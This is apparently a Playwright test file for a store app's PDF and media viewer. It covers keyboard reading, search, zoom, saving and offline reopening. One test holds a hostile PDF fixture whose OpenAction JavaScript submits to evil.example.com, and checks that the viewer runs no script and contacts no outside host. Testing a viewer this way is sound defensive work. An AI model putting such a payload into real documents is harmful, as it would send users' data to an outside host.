/** Company documents, shown in the page: read, searched, zoomed, saved, opened again without network. */
import { readFileSync } from 'node:fs'
import { messages } from '../../../src/shared/messages.ts'
import { expectAccessible } from '../../support/pages/accessible.ts'
import { expect, test } from '../fixture.ts'

test('a policy is read in the page by keyboard: its pages, its words, its size; saved, and opened again without network', {
  tag: '@quick',
}, async ({ window, enter, portal, savesAs }) => {
  await enter('/home/account/policies')
  const open = window.getByRole('button', { name: 'Visual merchandising', exact: true })
  await open.press('Enter')
  const dialog = window.getByRole('dialog', { name: 'Visual merchandising' })
  const pages = dialog.getByRole('region', { name: 'Pages of Visual merchandising' })
  await expect(pages.locator('[data-page="1"]')).toContainText('Page 1 of 4')
  await expectAccessible(window)

  await pages.press('End')
  await expect(dialog.getByRole('textbox', { name: 'Page', exact: true })).toHaveValue('4')
  await expect(pages.locator('[data-page="4"]')).toContainText('Page 4 of 4')
  await dialog.getByRole('textbox', { name: 'Page', exact: true }).fill('2')
  await expect(pages.locator('[data-page="2"]')).toBeInViewport()

  await window.keyboard.press('Control+f')
  await expect(dialog.getByRole('textbox', { name: 'Search this document' })).toBeFocused()
  await window.keyboard.type('PRAM')
  const found = dialog.getByRole('search').getByRole('status')
  await expect(found).toHaveText(/^1 of \d+$/)
  await expect.poll(() => window.evaluate(() => CSS.highlights.get('pdf-chosen')?.size)).toBe(1)
  await window.keyboard.press('Enter')
  await expect(found).toHaveText(/^2 of/)
  await window.keyboard.type('zzz')
  await expect(found).toHaveText('No match')
  await window.keyboard.press('Escape')
  await expect(found).toHaveText('')

  const size = dialog.getByRole('status', { name: 'Zoom' })
  await pages.focus()
  await window.keyboard.press('0')
  const before = await size.textContent()
  await window.keyboard.press('+')
  await expect(size).not.toHaveText(before ?? '')
  await window.keyboard.press('0')
  await expect(size).toHaveText(before ?? '')

  const target = await savesAs('policy.pdf')
  await dialog.getByRole('button', { name: 'Save' }).click()
  await expect(window.getByText(`Saved as ${target}`)).toBeVisible()
  expect(readFileSync(target, 'latin1').startsWith('%PDF-')).toBe(true)
  await window.keyboard.press('Escape')
  await expect(dialog).toBeHidden()
  await expect(open).toBeFocused()

  // A document that was opened once is on the disk.
  await portal.misbehave({ kind: 'reset', call: 'media', times: 50 })
  await portal.misbehave({ kind: 'reset', call: 'policies.url', times: 50 })
  await window.reload()
  await open.click()
  await expect(pages.locator('[data-page="1"]')).toContainText('Page 1 of 4')
  await window.keyboard.press('Escape')
  await window.getByRole('button', { name: 'Stock taking', exact: true }).click()
  await expect(window.getByRole('alert')).toContainText(messages.offline)
})

/** A PDF that would run a script, and links to another host. */
const HOSTILE = [
  '%PDF-1.4',
  '1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example.com"\\)) >> >> endobj',
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [4 0 R] >> endobj',
  '4 0 obj << /Type /Annot /Subtype /Link /Rect [0 0 300 300] /A << /S /URI /URI (https://evil.example.com/) >> >> endobj',
  'trailer << /Root 1 0 R >>',
  '%%EOF',
].join('\n')

test('a hostile PDF does nothing; one that can’t be read says so', async ({ window, enter }) => {
  const strange: string[] = []
  const dialogs: string[] = []
  await enter('/home/account/policies')
  const { host } = new URL(window.url())
  window.on('request', (request) => {
    if (new URL(request.url()).host !== host) strange.push(request.url())
  })
  window.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  let body = HOSTILE
  await window.route(/\/media\//, (route) => route.fulfill({ contentType: 'application/pdf', body }))
  await window.getByRole('button', { name: 'Stock taking', exact: true }).click()
  await expect(window.locator('[data-page="1"] canvas')).toBeVisible()
  await window.locator('[data-page="1"]').click()
  await expect(window).toHaveURL(/policies/)
  await window.keyboard.press('Escape')

  body = '%PDF-1.4 and nothing of a document'
  await window.getByRole('button', { name: 'Customer service', exact: true }).click()
  await expect(window.getByText(messages.documentUnreadable)).toBeVisible()
  await window.unroute(/\/media\//)
  expect([strange, dialogs]).toEqual([[], []])
})

test.describe('looked at', () => {
  test.use({ kept: true })

  test('release notes open with their words; company documents are read beside their names', async ({
    window,
    enter,
  }) => {
    await enter('/home/account/releasenotes')
    await window.getByRole('button', { name: 'Exchanges without a bill' }).click()
    await expect(window.getByRole('dialog')).toContainText('the customer’s mobile number')
    await window.keyboard.press('Escape')
    for (const [address, name] of [
      ['/escalation', 'East'],
      ['/home/account/vmebook', 'Seasons'],
      ['/home/account/waybill', 'Blank waybill'],
    ] as const) {
      await enter(address)
      await window.getByRole('button', { name }).click()
      await expect(window.getByRole('button', { name })).toHaveAttribute('aria-current', 'true')
      await expect(window.getByRole('region', { name, exact: true }).locator('[data-page="1"] canvas')).toBeVisible()
      await expect(window.getByRole('button', { name: 'Print' })).toBeEnabled()
    }
  })
})

test('music of the store’s signage goes on while other screens are used, and ends with the session', async ({
  window,
  enter,
  portal,
}) => {
  await enter('/home/account/tvc')
  await expect(window.getByText('Behind the camera')).toHaveCount(0)
  await window.getByRole('button', { name: 'Little steps' }).click()
  const player = window.getByRole('region', { name: 'Player' })
  await expect(player.locator('audio')).toHaveAttribute('aria-label', 'Little steps')
  await expect(player).toContainText('2 of 6')
  await expectAccessible(window)
  expect(await window.evaluate(() => navigator.mediaSession.metadata?.title)).toBe('Little steps')
  await window.keyboard.press('Alt+Digit3')
  await expect(window.getByRole('heading', { name: 'Order history', level: 1 })).toBeVisible()
  await player.getByRole('button', { name: 'Next track' }).click()
  await expect(player).toContainText('Monsoon rhyme')
  await player.getByRole('button', { name: 'Stop playing' }).click()
  await expect(player).toBeHidden()

  await portal.misbehave({ kind: 'status', call: 'music.intellikit', times: 20 })
  await portal.misbehave({ kind: 'status', call: 'music.commercials', times: 20 })
  await enter('/home/account/tvc', 'fccoco@practice.storedesk.example')
  await expect(window.getByText(messages.intellikitFailed)).toBeVisible()
  await expect(window.getByText(messages.commercialsFailed)).toBeVisible()
})
